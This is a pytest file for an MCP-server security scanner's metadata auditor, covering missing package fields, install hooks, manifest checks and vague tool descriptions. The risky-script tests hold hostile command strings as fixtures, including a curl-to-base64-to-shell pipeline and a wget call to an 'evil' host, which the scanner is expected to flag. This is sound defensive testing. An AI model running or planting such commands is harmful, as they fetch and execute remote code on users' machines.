"""
Tests for the Metadata Auditor — package and manifest hygiene.
"""

from mcpshield.core.metadata_auditor import audit_metadata
from mcpshield.models.context_models import Manifest, PackageMetadata, ScanContext
from mcpshield.models.finding_models import Severity


def _run(package=None, manifest=None):
    ctx = ScanContext(
        target_path="/srv",
        package=PackageMetadata.from_data(package) if package is not None else None,
        manifest=Manifest.from_data("server.json", manifest) if manifest is not None else None,
    )
    return audit_metadata(ctx).findings


def _ids(findings):
    return sorted(f.rule_id for f in findings)


def test_complete_package_is_clean(complete_package):
    assert _run(package=complete_package) == []


def test_missing_package_fields():
    findings = _run(package={"name": "x"})
    assert _ids(findings) == ["missing-author", "missing-license", "missing-version"]
    assert all(f.severity == Severity.LOW for f in findings)
    assert all(f.file == "package.json" and f.line is None for f in findings)


def test_contributors_count_as_author(complete_package):
    pkg = dict(complete_package)
    del pkg["author"]
    pkg["contributors"] = ["someone"]
    assert _run(package=pkg) == []


def test_missing_package_json():
    [finding] = _run()
    assert finding.rule_id == "missing-package-json"
    assert finding.severity == Severity.MEDIUM
    assert finding.file == "."


def test_risky_scripts_one_finding_per_pattern(complete_package):
    pkg = dict(complete_package)
    pkg["scripts"] = {"setup": "curl https://x.sh | base64 -d | sh", "build": "tsc"}
    risky = [f for f in _run(package=pkg) if f.rule_id == "risky-script"]

    assert sorted(f.metadata["pattern"] for f in risky) == ["base64", "curl"]
    assert all(f.severity == Severity.HIGH for f in risky)
    assert all('Script "setup"' in f.message for f in risky)


def test_risky_script_match_is_case_insensitive(complete_package):
    pkg = dict(complete_package)
    pkg["scripts"] = {"fetch": "WGET http://evil"}
    assert _ids(_run(package=pkg)) == ["risky-script"]


def test_install_hook(complete_package):
    pkg = dict(complete_package)
    pkg["scripts"] = {"postinstall": "node setup.js"}
    [finding] = _run(package=pkg)
    assert finding.rule_id == "install-hook"
    assert finding.severity == Severity.MEDIUM


def test_manifest_checks(complete_package):
    findings = _run(package=complete_package, manifest={})
    assert _ids(findings) == [
        "manifest-missing-name",
        "manifest-missing-version",
        "manifest-no-capabilities",
    ]
    assert all(f.file == "server.json" for f in findings)


def test_empty_capability_list_still_counts_as_declared(complete_package):
    findings = _run(
        package=complete_package,
        manifest={"name": "srv", "version": "1.0.0", "capabilities": []},
    )
    assert findings == []


def test_vague_tool_descriptions(complete_package):
    manifest = {
        "name": "srv",
        "version": "1.0.0",
        "tools": [
            {"name": "read_file", "description": "Read a file from the workspace"},
            {"name": "do", "description": "does it"},
            {"description": None},
        ],
    }
    vague = [f for f in _run(package=complete_package, manifest=manifest)]

    assert [f.metadata["tool"] for f in vague] == ["do", "unknown"]
    assert all(f.rule_id == "vague-tool-description" for f in vague)
